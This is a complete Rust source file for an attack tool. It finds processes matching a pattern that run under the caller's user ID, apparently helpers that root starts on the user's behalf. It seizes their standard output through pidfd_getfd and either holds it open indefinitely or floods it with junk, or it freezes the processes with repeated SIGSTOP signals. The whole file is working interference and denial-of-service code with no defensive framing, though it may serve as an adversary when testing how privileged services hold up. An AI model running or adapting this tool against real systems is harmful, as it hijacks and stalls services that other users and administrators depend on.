//! A user who takes the output of what root runs as them, and keeps it: `grabber PATTERN keep|flood|stop`. Looks for processes
//! of its own user whose command line has the pattern, takes their standard output by pidfd_getfd(2), and never lets it
//! go, or fills it without end; or stops them (SIGSTOP) as often as they go on.

use std::fs::File;
use std::io::Write as _;
use std::os::fd::FromRawFd as _;
use std::time::Duration;

unsafe extern "C" {
    fn syscall(number: i64, ...) -> i64;
}

const KILL: i64 = 62;
const PIDFD_OPEN: i64 = 434;
const PIDFD_GETFD: i64 = 438;

fn main() {
    let arguments: Vec<String> = std::env::args().collect();
    let (pattern, floods) = (&arguments[1], arguments[2] == "flood");
    let stops = arguments[2] == "stop";
    let mut kept: Vec<File> = Vec::new();
    let own = std::process::id();
    loop {
        for process in std::fs::read_dir("/proc").expect("/proc").flatten() {
            let Some(pid) = process.file_name().to_str().and_then(|name| name.parse::<u32>().ok()) else {
                continue;
            };
            let line = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
            if pid == own || !String::from_utf8_lossy(&line).contains(pattern.as_str()) {
                continue;
            }
            if stops {
                // SAFETY: a signal to a process.
                let _ = unsafe { syscall(KILL, i64::from(pid), 19_i64) };
                continue;
            }
            // SAFETY: two system calls of numbers; the descriptor that comes of them is nobody else's.
            let file = unsafe {
                let process = syscall(PIDFD_OPEN, i64::from(pid), 0_i64);
                if process < 0 {
                    continue;
                }
                let output = syscall(PIDFD_GETFD, process, 1_i64, 0_i64);
                let _ = syscall(3, process);
                if output < 0 {
                    continue;
                }
                File::from_raw_fd(i32::try_from(output).expect("a descriptor"))
            };
            if !floods && kept.len() < 1000 {
                kept.push(file);
            } else if floods {
                std::thread::spawn(move || {
                    let mut file = file;
                    while file.write_all(&[b'y'; 4096]).is_ok() {}
                });
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}
